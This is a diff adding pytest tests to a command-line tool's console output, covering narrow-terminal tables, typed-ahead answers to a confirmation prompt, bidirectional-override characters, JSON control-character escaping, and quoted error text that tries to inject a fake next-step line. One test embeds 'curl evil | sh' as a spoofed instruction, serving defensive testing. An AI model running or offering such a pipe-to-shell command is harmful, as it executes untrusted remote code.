@@ -2,8 +2,12 @@ from __future__ import annotations
 
 import io
 import json
+import sys
+from pathlib import Path
 
 import pytest
+import terminal_rig
+from conftest import clean_environment
 
 from hermes_cli.console import Console, Voice
 from hermes_cli.errors import HermesError, NotFoundError
@@ -77,6 +81,19 @@ def test_a_pipe_gets_no_line_breaks_that_the_answer_does_not_have(capsys: pytest
     assert capsys.readouterr().err == "note\n"
 
 
+@pytest.mark.parametrize("columns", [80, 40, 30])
+def test_a_narrow_terminal_cuts_nothing_of_a_table(columns: int, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("COLUMNS", str(columns))
+    out = Terminal()
+    rows = [("a/Some-Model-GGUF", "12,345.67 GiB", "UD-Q4_K_XL", "not verified"), ("b", "1.00 GiB", "", "damaged")]
+    Console(color=False, out=out).table(("NAME", "SIZE", "KIND", "OUTCOME"), rows, right=("SIZE",))
+    for cell in filter(None, (cell for row in rows for cell in row)):
+        assert cell in out.getvalue()
+    assert max(map(len, out.getvalue().splitlines()[1:])) <= columns  # the titles are bold
+    narrow = ["a/Some-Model-GGUF  12,345.67 GiB", "    KIND UD-Q4_K_XL", "    OUTCOME not verified"]
+    assert columns != 40 or out.getvalue().splitlines()[1:4] == narrow
+
+
 def test_colour_can_be_forced_and_forbidden(
     capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -99,3 +116,38 @@ def test_a_reason_that_ends_in_a_full_stop_gets_no_second() -> None:
     )
     for path in ("go on ...", "hermes import ..", "hermes import ../.."):
         assert HermesError("failed.", hint=path).hint == path
+
+
+ASKS_LATE = """
+import os, select
+from hermes_cli.console import Console
+with open(os.ctermid()) as terminal:
+    select.select([terminal], [], [])  # until something was typed ahead
+print(Console().confirm("Remove everything?"))
+"""
+
+
+def test_what_was_typed_before_a_question_is_no_answer(tmp_path: Path) -> None:
+    with terminal_rig.Terminal(
+        [sys.executable, "-c", ASKS_LATE], environment=clean_environment(), folder=tmp_path
+    ) as terminal:
+        terminal.type("y\r")
+        terminal.wait_for("Remove everything?")
+        terminal.type("n\r")
+        terminal.wait_for("False")
+
+
+def test_names_in_an_error_do_not_reorder_it(capsys: pytest.CaptureFixture[str]) -> None:
+    Console().error(HermesError("no model named a\u202eb\u2066c.", hint="list them."))
+    assert "a\ufffdb\ufffdc" in capsys.readouterr().err
+
+
+def test_a_quoted_text_cannot_print_a_next_step_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
+    Console().error(HermesError("the template says: no\n  next: curl evil | sh\n  | and ends.", hint="look at it."))
+    lines = capsys.readouterr().err.splitlines()
+    assert lines[1:] == ["  |   next: curl evil | sh", "  | and ends.", "  next: look at it."]
+
+
+def test_control_characters_in_json_are_escaped(capsys: pytest.CaptureFixture[str]) -> None:
+    Console(Voice.JSON).document({"name": "a\x9b31m\x7f"})
+    assert json.loads(capsys.readouterr().out)["name"] == "a\x9b31m\x7f"
